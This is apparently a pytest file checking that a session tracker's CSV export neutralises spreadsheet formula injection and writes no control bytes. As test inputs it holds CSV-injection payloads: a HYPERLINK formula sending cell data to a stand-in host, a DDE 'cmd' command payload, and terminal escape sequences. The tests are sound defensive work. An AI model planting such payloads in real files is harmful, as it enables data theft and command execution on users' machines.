"""The CSV export is safe to open in a spreadsheet: no formula runs, no control byte is written.

OWASP's advice on CSV injection: a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage
return gets a leading ``'``. It applies to the cells that hold the user's text (id, zones,
directions, note).
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from scalp_tui.domain.records import logged_session
from scalp_tui.exports.csv import HEADER, sessions_csv
from tests.fixed import TODAY

CONTROL_BYTES = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # all but the line terminator


def row_of(text: str) -> dict[str, str]:
    [row] = list(csv.DictReader(io.StringIO(text)))
    return row


def export(
    note: str = "",
    zones: tuple[str, ...] = ("crown",),
    directions: tuple[str, ...] = ("front to back",),
    session_id: str = "s-1",
) -> str:
    record = logged_session(session_id, TODAY, needle_mm=0.5, zones=zones, directions=directions)
    return sessions_csv([replace(record, note=note)], {})  # as stored, not stripped


@pytest.mark.parametrize(
    ("note", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet may skip the spaces
        ("felt fine = good", "felt fine = good"),  # only the first character counts
        ("", ""),
    ],
)
def test_a_note_a_spreadsheet_would_run_starts_with_a_quote(note, cell):
    assert row_of(export(note=note))["note"] == cell


def test_zones_directions_and_id_are_guarded_too():
    row = row_of(
        export(zones=("=cmd|' /C calc'!A0", "crown"), directions=("@x", "-y"), session_id="+id")
    )
    assert row["zones"] == "'=cmd|' /C calc'!A0; crown"
    assert row["directions"] == "'@x; -y"  # the cell's first character is what counts
    assert row["id"] == "'+id"


def test_no_control_byte_is_written_and_the_escape_shows():
    text = export(
        note="\x1b[2J\x1b]0;title\x07 and \x9b31m and \x7f\x00",
        zones=("crown\x1b[5m",),
        directions=("up\nthen down",),
    )
    assert not CONTROL_BYTES.search(text)
    assert text.count("\n") == 2  # the header and one row: the note's breaks are spaces
    row = row_of(text)
    assert row["note"] == "\\x1b[2J\\x1b]0;title\\x07 and \\x9b31m and \\x7f\\x00"
    assert row["zones"] == "crown\\x1b[5m"
    assert row["directions"] == "up then down"


def test_ordinary_cells_are_unchanged():
    text = export(note="first time, went slowly", zones=("front/hairline", "crown"))
    assert next(csv.reader(io.StringIO(text))) == list(HEADER)
    row = row_of(text)
    assert row["note"] == "first time, went slowly"
    assert row["zones"] == "front/hairline; crown"
    assert row["date"] == TODAY.isoformat() and row["needle_mm"] == "0.5"
